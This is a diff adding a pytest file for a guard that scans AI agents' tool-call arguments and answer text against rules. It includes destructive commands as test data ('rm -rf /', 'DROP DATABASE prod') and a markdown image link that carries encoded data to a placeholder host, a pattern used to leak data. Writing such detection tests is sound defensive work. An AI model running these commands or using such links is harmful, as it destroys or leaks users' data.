@@ -1,0 +1,53 @@
+"""Twin of sidecar/actions/argument_rules.py: every rule meets its attacks and none of its harmless neighbours."""
+
+from __future__ import annotations
+
+import pytest
+
+from sidecar.actions.argument_rules import LINK_RULE, ArgumentRules, action_policy, meets
+from sidecar.config import RuleOverride
+from sidecar.policy import Rule
+from sidecar.policy.rules import compiled
+
+RULES = {rule.id: rule for rule in action_policy().rules}
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_a_rule_proves_itself(rule: Rule) -> None:
+    """Its `match` lines match, its `no_match` and `misses` lines do not."""
+    assert [line for line in rule.match if not meets(rule, line)] == []
+    assert [line for line in (*rule.no_match, *rule.misses) if meets(rule, line)] == []
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_every_pattern_has_its_example(rule: Rule) -> None:
+    """A mistyped pattern is noticed."""
+    unmet = [p for p in rule.patterns if not any(compiled(p).search(line) for line in rule.match)]
+    assert unmet == []
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_harmless_lines_meet_no_other_rule_either(rule: Rule) -> None:
+    """What one rule lets pass, the others do, too."""
+    assert [(line, other) for line in rule.no_match for other in RULES if meets(RULES[other], line)] == []
+
+
+def test_arguments_are_read_at_any_depth() -> None:
+    """Nested objects, lists, and JSON in a text; the name is that of the innermost argument."""
+    rules = ArgumentRules(action_policy())
+    arguments = {"steps": [{"run": {"cmd": "rm -rf /"}}], "more": '{"sql": "DROP DATABASE prod"}'}
+    assert [(rule.id, name) for rule, name in rules.in_arguments(arguments)] == [("ACT-100", "cmd"), ("ACT-104", "sql")]
+    assert list(rules.in_arguments("rm -rf build/")) == []
+
+
+def test_the_text_of_an_answer_meets_the_rule_on_links_alone() -> None:
+    """A model may explain what `rm -rf /` does."""
+    rules = ArgumentRules(action_policy())
+    assert list(rules.in_text("Never type rm -rf / as root.")) == []
+    assert [r.id for r in rules.in_text("![x](https://x.example/p?data=" + "QUJD" * 9 + ")")] == [LINK_RULE]
+
+
+def test_a_rule_can_be_switched_off() -> None:
+    """By the setting `rules`, as any other; changes of other policies are not meant."""
+    switches = {"ACT-100": RuleOverride(status="off"), "INJ-100": RuleOverride(status="hint")}
+    assert list(ArgumentRules(action_policy(), switches).in_arguments({"cmd": "rm -rf /"})) == []
